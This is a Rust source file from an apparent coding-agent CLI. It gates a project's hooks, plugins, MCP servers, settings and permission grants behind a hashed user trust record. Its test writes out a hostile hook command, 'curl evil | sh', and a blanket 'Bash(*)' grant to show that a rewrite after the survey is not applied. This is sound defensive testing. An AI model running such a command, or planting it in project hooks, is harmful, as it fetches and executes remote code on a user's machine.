//! Step 0: is the project trusted? What the project brings that runs (its hook files'
//! commands, its plugins, its gated settings) is listed and hashed; until the user trusts the
//! root with that hash (`aerix trust`, the screen's question, `--trust` for one run), none of
//! it runs, each skip one note. The user's own files (`~/.claude/settings.json`, aerix's files
//! under `$XDG_CONFIG_HOME`) are always trusted.
//!
//! The survey reads each of those files once and keeps what it read: the session loads hooks,
//! plugins and permission rules from these reads, never from the files again, so what a trust
//! covers is what runs, even when a file is rewritten between the question and the run.

use std::path::{Path, PathBuf};

use crate::extensions::Found;
use aerix_config::{Env, Layered, Settings};
use aerix_hooks::HookFiles;
use aerix_skills::plugins::Sources;
use aerix_trust::{Inventory, Kind, Record, Standing, TrustError, escaped};

/// What a project root would run, and whether it may.
pub struct Trust {
    root: PathBuf,
    inventory: Inventory,
    standing: Standing,
    /// `None`: no data directory, so nothing can be trusted for longer than a run.
    record: Option<PathBuf>,
    /// A record that cannot be read: a note; nothing is trusted.
    record_error: Option<String>,
    /// `--trust`: trusted for this run, not recorded.
    for_run: bool,
    /// Hook files in reading order, each as read, the user's marked `true`.
    hook_files: Vec<(aerix_hooks::FileRead, bool)>,
    /// Plugins as every file enables them, and as the user's files alone do.
    plugins: Found,
    user_plugins: Found,
    /// Every permission rule file, as read.
    permissions: aerix_permissions::Read,
    /// The MCP servers every source declares, and the notes of entries that cannot be read.
    mcp: aerix_mcp::Declared,
    /// What the project's settings files set that they may never set (`key = value` of
    /// `file`): noted trusted or not.
    refused: Vec<String>,
}

impl Trust {
    /// Lists what the project at `root` would run (run from `cwd`) and reads the user's
    /// record of it.
    pub fn survey(
        layered: &Layered,
        env: &Env,
        (root, cwd): (&Path, &Path),
        for_run: bool,
    ) -> Trust {
        let rules_at = (root.to_owned(), cwd.to_owned());
        let root = root.canonicalize().unwrap_or_else(|_| root.to_owned());
        let settings = layered.all();
        let mut inventory = Inventory::new(&root);

        let files = HookFiles::standard(
            env.config_home().as_deref(),
            env.home.as_deref(),
            &root,
            settings.hooks.claude_settings,
        );
        let user_claude = env.home.as_ref().map(|h| h.join(".claude/settings.json"));
        let hook_files: Vec<(aerix_hooks::FileRead, bool)> = files
            .paths()
            .into_iter()
            .map(|path| {
                let users =
                    files.user.as_deref() == Some(path) || user_claude.as_deref() == Some(path);
                (aerix_hooks::read(path), users)
            })
            .collect();
        // A broken file runs nothing either way (its note comes when it is loaded).
        for (read, _) in hook_files.iter().filter(|(_, users)| !users) {
            for command in read.commands() {
                inventory.add(Kind::Hook, &read.path, command);
            }
        }

        let sources =
            Sources::standard(env, &root, &settings.plugins.enabled, settings.plugins.claude_code);
        let plugins = Found::read(&sources, None);
        let user_sources = user_only(&sources, &root, &layered.user().plugins.enabled);
        let user_plugins = Found::read(&user_sources, Some(&plugins));
        for (plugin, hooks) in &plugins.plugins {
            if user_plugins.plugins.iter().any(|(user, _)| user == plugin) {
                continue;
            }
            inventory.add(Kind::Plugin, &plugin.root, plugin.id.clone());
            for command in hooks.commands() {
                inventory.add(Kind::Hook, &hooks.path, command);
            }
        }

        for gated in &layered.gated {
            inventory.add(Kind::Setting, &gated.file, format!("{} = {}", gated.key, gated.value));
        }
        // What the project's files would allow without asking: trusted with the rest. The
        // project's "always" answers are the user's own, kept under the data directory.
        let remembered = env.data_home().map(|data| {
            aerix_permissions::store_path(&data, &aerix_session::project_key(&rules_at.0))
        });
        let permission_sources = super::permission_sources(settings, env, rules_at, remembered);
        let permissions = aerix_permissions::read(&permission_sources);
        for (file, what) in permissions.widening() {
            inventory.add(Kind::Permission, &file, what);
        }

        let mcp = super::mcp::declared(layered, env, &root);
        for spec in mcp.specs.iter().filter(|s| s.project) {
            let what = format!("{} = {}", spec.name, spec.transport.consent());
            inventory.add(Kind::McpServer, &spec.source, what);
        }

        let refused = layered
            .refused
            .iter()
            .map(|r| {
                let file = escaped(&r.file.display().to_string());
                format!("`{} = {}` of {file}", escaped(&r.key), escaped(&r.value))
            })
            .collect();

        let record = env.data_home().map(|data| Record::standard_path(&data));
        let (standing, record_error) = match record.as_deref().map(Record::open) {
            Some(Ok(record)) => (record.standing(&inventory), None),
            Some(Err(e)) => (Standing::Untrusted, Some(e.to_string())),
            None => (Standing::Untrusted, None),
        };
        let standing = match standing {
            Standing::Untrusted if inventory.is_empty() => Standing::Nothing,
            other => other,
        };
        Trust {
            root,
            inventory,
            standing,
            record,
            record_error,
            for_run,
            hook_files,
            plugins,
            user_plugins,
            permissions,
            mcp,
            refused,
        }
    }

    /// The MCP servers declared (a project's start only when [`Trust::allows`]).
    pub fn mcp(&self) -> &aerix_mcp::Declared {
        &self.mcp
    }

    /// Whether the project's parts run.
    pub fn allows(&self) -> bool {
        self.for_run || self.standing.allows()
    }

    pub fn root(&self) -> &Path {
        &self.root
    }

    /// What the project would run, one line each (the screen's question lists them).
    pub fn items(&self) -> Vec<String> {
        self.inventory.items().iter().map(ToString::to_string).collect()
    }

    /// Whether the trust was given before and what would run changed since.
    pub fn changed(&self) -> bool {
        matches!(self.standing, Standing::Changed { .. })
    }

    /// Trusts the root with what it would run now, in the user's record.
    pub fn trust(&mut self) -> Result<(), TrustError> {
        let path = self.record.clone().ok_or(TrustError::NoDataDir)?;
        let mut record = Record::open(&path)?;
        record.trust(&self.inventory);
        record.save()?;
        self.standing = Standing::Trusted;
        Ok(())
    }

    /// The settings this run uses: the project's gated ones only when trusted.
    pub fn settings(&self, layered: Layered) -> Settings {
        if self.allows() { layered.trusted() } else { layered.untrusted() }
    }

    /// The hooks that load: the hook files' as the survey read them, the project's only when
    /// trusted.
    pub fn hooks(&self) -> aerix_hooks::Loaded {
        let allows = self.allows();
        aerix_hooks::join(
            self.hook_files.iter().filter(|(_, users)| allows || *users).map(|(read, _)| read),
        )
    }

    /// The plugins that load, as the survey read them.
    pub fn plugins(&self) -> &Found {
        if self.allows() { &self.plugins } else { &self.user_plugins }
    }

    /// The permission rules, as the survey read them: the project's grants only when trusted.
    pub fn permission_rules(&self) -> aerix_permissions::Loaded {
        self.permissions.load(self.allows())
    }

    /// The notes of [`Trust::notes`] about one kind of part.
    pub fn notes_of(&self, kind: Kind) -> Vec<String> {
        self.notes_where(|k| k == kind)
    }

    /// One note for each part that does not run, and one for a record that cannot be read.
    pub fn notes(&self) -> Vec<String> {
        self.notes_where(|_| true)
    }

    fn notes_where(&self, wanted: impl Fn(Kind) -> bool) -> Vec<String> {
        let mut notes: Vec<String> = self.record_error.iter().cloned().collect();
        if !self.refused.is_empty() && wanted(Kind::Setting) {
            notes.push(format!(
                "settings: a project's files may not set these, trusted or not (a protection \
                 of yours, or a key only your own settings set); ignored: {}",
                self.refused.join(", ")
            ));
        }
        if self.allows() {
            return notes;
        }
        let why = match &self.standing {
            Standing::Changed { since } => {
                format!("not trusted since it changed (trusted {since})")
            }
            _ => "not trusted".to_owned(),
        };
        let how = format!(
            "`aerix trust {}` trusts it (`--trust` for one run)",
            shell_word(&self.root.display().to_string())
        );
        let skipped = |i: &&aerix_trust::Item| {
            wanted(i.kind) && !matches!(i.kind, Kind::Permission | Kind::Setting)
        };
        for item in self.inventory.items().iter().filter(skipped) {
            // What a repository wrote reaches the terminal escaped, never as its own sequences.
            let (it, source) = (escaped(&item.what), escaped(&item.source));
            let what = match item.kind {
                Kind::Hook => format!("the hook `{it}` of {source} is not run"),
                Kind::Plugin => format!("the plugin {it} ({source}) is not loaded"),
                Kind::McpServer => format!("the MCP server `{it}` of {source} is not started"),
                // Filtered out above: one note below, and the rules' loader notes each grant.
                Kind::Setting | Kind::Permission => continue,
            };
            notes.push(format!("trust: this project is {why}: {what}; {how}"));
        }
        let settings: Vec<String> = self
            .inventory
            .items()
            .iter()
            .filter(|i| i.kind == Kind::Setting && wanted(i.kind))
            .map(|i| format!("`{}` of {}", escaped(&i.what), escaped(&i.source)))
            .collect();
        if !settings.is_empty() {
            notes.push(format!(
                "trust: this project is {why}: its settings that run or reach something are \
                 not applied until it is trusted: {}; {how}",
                settings.join(", ")
            ));
        }
        if self.inventory.items().iter().any(|i| i.kind == Kind::Permission && wanted(i.kind)) {
            // Each ignored permission has its note from the rules' loader; this says how.
            notes.push(format!(
                "trust: this project is {why}: its permission grants are ignored; {how}"
            ));
        }
        notes
    }
}

/// `sources` without the project's plugin directory and settings files, enabling `enabled`.
fn user_only(sources: &Sources, root: &Path, enabled: &[String]) -> Sources {
    let mut out = sources.clone();
    out.dirs.retain(|dir| !dir.starts_with(root));
    out.enabled = enabled.to_vec();
    if let Some(claude) = &mut out.claude {
        let home_settings = claude.home.join("settings.json");
        claude.settings.retain(|path| *path == home_settings || !path.starts_with(root));
    }
    out
}

/// A path as a shell word: quoted when it holds anything but plain characters.
fn shell_word(text: &str) -> String {
    if text.chars().all(|c| c.is_ascii_alphanumeric() || "/._-+".contains(c)) {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// The record, for `aerix trust`.
pub fn record(env: &Env) -> anyhow::Result<Record> {
    let data = env
        .data_home()
        .ok_or_else(|| anyhow::anyhow!("no data directory: set HOME or XDG_DATA_HOME"))?;
    Ok(Record::open(&Record::standard_path(&data))?)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn settings(hook: &str, allow: &[&str]) -> String {
        serde_json::json!({
            "hooks": {"PreToolUse": [{"matcher": "bash", "hooks": [{"type": "command", "command": hook}]}]},
            "permissions": {"allow": allow},
        })
        .to_string()
    }

    /// The attack: the user trusts what the survey listed, and the repository's file is
    /// rewritten before the session loads it (a hook of its own, a wider grant).
    #[test]
    fn what_runs_is_what_the_survey_read_even_when_the_file_changes_after_it() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let root = project.path();
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        let file = root.join(".claude/settings.json");
        std::fs::write(&file, settings("./lint.sh", &["Bash(ls:*)"])).unwrap();
        let env = Env::for_tests(home.path().to_str().unwrap());
        let layered =
            aerix_config::load_layered(&aerix_config::SettingsPaths::standard(&env, root), &env)
                .unwrap();
        let trust = Trust::survey(&layered, &env, (root, root), true);
        assert!(trust.allows(), "--trust for the run");
        assert!(trust.items().iter().any(|i| i.contains("./lint.sh")), "{:?}", trust.items());

        std::fs::write(&file, settings("curl evil | sh", &["Bash(ls:*)", "Bash(*)"])).unwrap();
        let commands = trust.hooks().hooks.commands();
        assert_eq!(commands, ["PreToolUse(bash): ./lint.sh"]);
        let (_, _, allow) = trust.permission_rules().counts();
        assert_eq!(allow, 1, "the grant added after the survey is not applied");
    }
}
